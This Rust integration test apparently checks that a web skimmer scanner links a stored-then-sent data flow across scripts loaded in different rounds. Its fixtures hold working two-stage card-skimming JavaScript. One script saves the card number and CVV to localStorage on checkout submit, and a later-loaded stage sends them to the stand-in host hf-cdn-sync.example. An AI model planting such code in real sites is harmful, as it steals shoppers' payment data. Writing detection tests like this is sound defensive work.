//! A page's scripts share one window, whenever the scan analysed them (issue 9, class 3).
//! A loader's stage 2 is only fetched after the page's own scripts were analysed, in a later
//! round; the page-level join of what one script stores and another sends must still see both.

mod common;
use common::{html, js, scan_json, serve};

const CHECKOUT: &str = r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout | Hanaya Flowers</title>
<script src="/static/js/checkout-validate.js"></script>
<script src="/static/js/loader.js"></script>
</head><body>
<form id="co-payment-form" action="/checkout/place" method="post">
  <input id="cc_number" name="payment[cc_number]" autocomplete="cc-number">
  <input id="cc_cid" name="payment[cc_cid]" autocomplete="cc-csc">
  <button type="submit">Place order</button>
</form></body></html>"#;

/// Looks like form validation, and parks the card number in storage on submit.
const WRITER: &str = "document.getElementById('co-payment-form').addEventListener('submit', function () {
  var n = document.getElementById('cc_number').value.replace(/\\s+/g, '');
  if (n.length > 11) { localStorage.setItem('hf-checkout-state', btoa(n + ';' + document.getElementById('cc_cid').value)); }
});";

/// Loads stage 2 at run time.
const LOADER: &str = "(function () { var s = document.createElement('script'); s.src = '/static/js/stage2.js'; document.head.appendChild(s); })();";

/// Stage 2 reads the stored value back and sends it out.
const STAGE2: &str = "(function () {
  var v = localStorage.getItem('hf-checkout-state');
  if (v) { navigator.sendBeacon('https://hf-cdn-sync.example/s', v); }
})();";

#[test]
fn data_stored_by_a_page_script_and_sent_by_a_stage_loaded_later_is_joined() {
    let server = serve(vec![
        ("/checkout/", html(CHECKOUT)),
        ("/static/js/checkout-validate.js", js(WRITER)),
        ("/static/js/loader.js", js(LOADER)),
        ("/static/js/stage2.js", js(STAGE2)),
    ]);
    let resolve = server.resolve("shop.example");
    let url = server.url("shop.example", "/checkout/");
    let (code, report, stderr) =
        scan_json(&["--no-cache", "--depth", "0", "--resolve", &resolve, &url]);
    let scripts: Vec<&str> = report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["url"].as_str())
        .collect();
    assert!(
        scripts.iter().any(|u| u.ends_with("stage2.js")),
        "stage 2 was not loaded: {scripts:?}\n{stderr}"
    );
    let joined = report["findings"].as_array().unwrap().iter().any(|f| {
        f["hosts"]
            .as_array()
            .is_some_and(|h| h.iter().any(|h| h == "hf-cdn-sync.example"))
            && f["severity"] == "critical"
    });
    assert!(
        joined,
        "no critical finding for the joined flow:\n{report:#}"
    );
    assert_eq!(code, 1, "{stderr}");
}
